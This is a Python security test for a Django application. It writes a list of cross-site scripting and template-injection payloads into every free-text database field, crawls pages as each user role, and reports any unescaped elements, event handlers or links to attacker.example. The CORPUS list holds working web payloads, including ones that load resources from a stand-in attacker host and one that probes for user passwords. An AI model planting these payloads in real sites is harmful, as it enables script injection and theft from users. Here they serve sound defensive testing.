"""R-90: text that wants to be a program, stored in every field; what each person's pages then show.

Run in the environment of an installation: `python -m tests.attack.hostile PAGES [breach]`. It plants the texts, walks as
everybody and prints a report as JSON. With `breach` templates escape nothing, and the report has to tell of it.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import logging
import sys
from http import HTTPStatus
from typing import TYPE_CHECKING, Any, Final

import django
import lxml.html

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.attack.crawling import Answer

# Each would call the page's own function when it ran, and leaves an element with the attribute when it is not escaped.
RUN: Final = "window.stolen=1"
CORPUS: Final = (
    f"<script data-xss>{RUN}</script>",
    f'"><script data-xss>{RUN}</script>',
    f"</title></textarea></style></script><script data-xss>{RUN}</script>",
    f'<img data-xss src=x onerror="{RUN}">',
    f'"><img data-xss src=x onerror={RUN}>',
    f"'><img data-xss src=x onerror={RUN}>",
    f"<svg data-xss onload={RUN}>",
    f"<svg><animate data-xss onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe data-xss srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<a data-xss href=javascript:{RUN}>查看</a>",
    f"javascript:{RUN}//",
    f"java\tscript:{RUN}//",
    f"<body data-xss onload={RUN}>",
    f"<input data-xss autofocus onfocus={RUN}>",
    f"<details data-xss open ontoggle={RUN}>",
    f"<math><mi data-xss xlink:href='javascript:{RUN}'>x</mi></math>",
    f'" autofocus onfocus="{RUN}" data-xss="',
    f"' onmouseover='{RUN}' data-xss='",
    "<link data-xss rel=stylesheet href=//attacker.example/x.css>",
    "<base data-xss href=//attacker.example/>",
    "<form data-xss action=//attacker.example/><button>提交</button>",
    "<meta data-xss http-equiv=refresh content='0;url=//attacker.example/'>",
    "<style data-xss>@import '//attacker.example/x.css';</style>",
    "<object data-xss data=//attacker.example/x></object>",
    "<!--<img data-xss src='--><img data-xss src=x onerror=window.stolen=1>'>",
    "<noscript><p data-xss title='</noscript><img data-xss src=x onerror=window.stolen=1>'>",
    "<template data-xss><script>window.stolen=1</script></template>",
    "{{7*7}}{% debug %}{{request.user.password}}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "\u003cimg data-xss src=x onerror=window.stolen=1\u003e",
    "&lt;img data-xss src=x onerror=window.stolen=1&gt;",
    "＜script data-xss＞window.stolen=1＜/script＞",
    "%3Cimg%20data-xss%20src%3Dx%20onerror%3Dwindow.stolen%3D1%3E",
    "<x data-xss hx-get=//attacker.example/ hx-trigger=load>",
    "<div data-xss hx-on:load='window.stolen=1'>",
)
SHORT: Final = ("<b data-xss>", "'\"><i data-xss>", "<u data-xss>x")
# Rows without which nobody can sign in or no page is found; and what is looked up by its text.
KEPT: Final = {
    "accounts.RoleGrant",
    "accounts.Division",
    "accounts.Unit",
    "programs.Program",
    "core.Event",
    "core.Delivery",
}
KEPT_NAMES: Final = {"path", "sha256", "url", "password", "language", "action", "facts_hash", "status", "kind", "number",
                     "verification_code", "credit_code", "receipt_number", "query_code", "phone", "formula",
                     "field", "subject_type", "key"}  # fmt: skip


def plant() -> int:
    """Write the corpus, one text after the other, into every free text of every row; return how many were written."""
    from django.apps import apps
    from django.db import DatabaseError, transaction

    from brandcert.core.errors import BusinessError

    corpus, short, count = itertools.cycle(CORPUS), itertools.cycle(SHORT), 0
    for config in apps.get_app_configs():
        if not config.name.startswith("brandcert."):
            continue
        for model in config.get_models():
            label = model._meta.label
            if label in KEPT:
                continue
            for row in model._default_manager.all()[:200]:
                values = {
                    name: next(corpus if length > 150 else short)[:length] for name, length in free_texts(row)
                }
                if not values:
                    continue
                with contextlib.suppress(BusinessError, DatabaseError), transaction.atomic():
                    model._default_manager.filter(pk=row.pk).update(**values)
                    count += len(values)
    return count + plant_contents(corpus)


def plant_contents(corpus: Iterator[str]) -> int:
    """Put the corpus into what applications say; return how many texts that were."""
    from brandcert.applications.models import Application, ApplicationVersion

    count = 0

    def hostile(value: Any) -> Any:
        nonlocal count
        if isinstance(value, dict):
            return {key: hostile(item) for key, item in value.items()}
        if isinstance(value, list):
            return [hostile(item) for item in value]
        if isinstance(value, str) and not value.isascii():
            count += 1
            return next(corpus)
        return value

    for model in (Application, ApplicationVersion):
        for row in model._default_manager.all():
            model._default_manager.filter(pk=row.pk).update(content=hostile(row.content))
    return count


def free_texts(row: Any) -> Iterator[tuple[str, int]]:
    """Give the row's fields that hold free text, each with its length."""
    from django.db import models

    for field in row._meta.fields:
        if (
            isinstance(field, (models.CharField, models.TextField))
            and not isinstance(
                field, (models.EmailField, models.SlugField, models.URLField, models.UUIDField)
            )
            and not field.choices
            and not field.unique
            and field.name not in KEPT_NAMES
            and getattr(row, field.name)
        ):
            yield field.name, field.max_length or 2000


def faults_of(url: str, answer: Answer) -> Iterator[str]:
    """Tell what of a page would run, load or lead away."""
    if answer.status >= HTTPStatus.INTERNAL_SERVER_ERROR:
        yield f"{url} answers {answer.status}"
    if answer.is_page:
        yield from faults_of_page(url, answer)


def faults_of_page(url: str, answer: Answer) -> Iterator[str]:
    """Tell the same of a page's elements and attributes."""
    tree = lxml.html.document_fromstring(answer.body)
    if tree.xpath("//*[@data-xss]"):
        yield f"{url} has a planted element"
    for script in tree.xpath("//script[not(@src)]"):
        if script.get("type") not in ("application/json", "application/ld+json"):
            yield f"{url} has a script in the page"
    if b"{{49" in answer.body:
        yield f"{url} computes a text"
    for attribute in tree.xpath("//@*"):
        if is_dangerous(attribute.attrname, "".join(attribute.split()).lower()):
            yield f"{url} has {attribute.attrname}={attribute[:80]}"


def is_dangerous(name: str, value: str) -> bool:
    """Say whether an attribute would run something, or lead to the attacker's site."""
    if name.startswith(("on", "hx-on")):
        return True
    leads = name in ("href", "src", "action", "formaction", "data")
    return leads and ("script:" in value or "attacker.example" in value)


def everybody() -> Iterator[tuple[str, Any, list[str]]]:
    """Give who walks: nobody, owners in different states, and one person of each role."""
    from brandcert.accounts.enums import Role
    from brandcert.accounts.models import User
    from brandcert.applications.enums import Status
    from brandcert.applications.models import Application

    yield "nobody", None, ["/"]
    for status in Status:
        case = Application.objects.filter(status=status).order_by("pk").first()
        member = case and case.enterprise.memberships.filter(left_at=None).select_related("user").first()
        if case and member:
            yield f"owner of {status}", member.user, ["/portal/", f"/portal/applications/{case.pk}/"]
    for role in Role:
        person = User.objects.filter(grants__role=role, is_staff=True).order_by("pk").first()
        if person is not None:
            yield role, person, ["/manage/"]


def run(*, most: int, breach: bool) -> dict[str, Any]:
    """Plant, walk as everybody up to so many pages each, report."""
    from django.db import transaction
    from django.template import engines

    from tests.attack import crawling

    if breach:
        engines["django"].engine.autoescape = False  # type: ignore[attr-defined] # the engine behind the backend
    with transaction.atomic():  # one commit for all
        planted = plant()
    pages, faults, shown = 0, [], 0
    for who, person, starts in everybody():
        found = crawling.walk(crawling.window(person), starts, most=most, alike=2)
        pages += len(found.pages)
        shown += sum(b"data-xss" in answer.body for answer in found.pages.values())
        faults += [
            f"{who}: {fault}" for url, answer in found.pages.items() for fault in faults_of(url, answer)
        ]
    return {"planted": planted, "pages": pages, "pages that show planted text": shown, "faults": faults}


def main() -> None:
    """Run and print the report."""
    django.setup()
    from django.conf import settings
    from django.test.utils import setup_test_environment

    setup_test_environment()
    logging.disable(logging.WARNING)
    settings.ALLOWED_HOSTS = [*settings.ALLOWED_HOSTS, "testserver", "localhost"]
    print(json.dumps(run(most=int(sys.argv[1]), breach="breach" in sys.argv), ensure_ascii=False))  # noqa: T201 -- the report


if __name__ == "__main__":
    main()
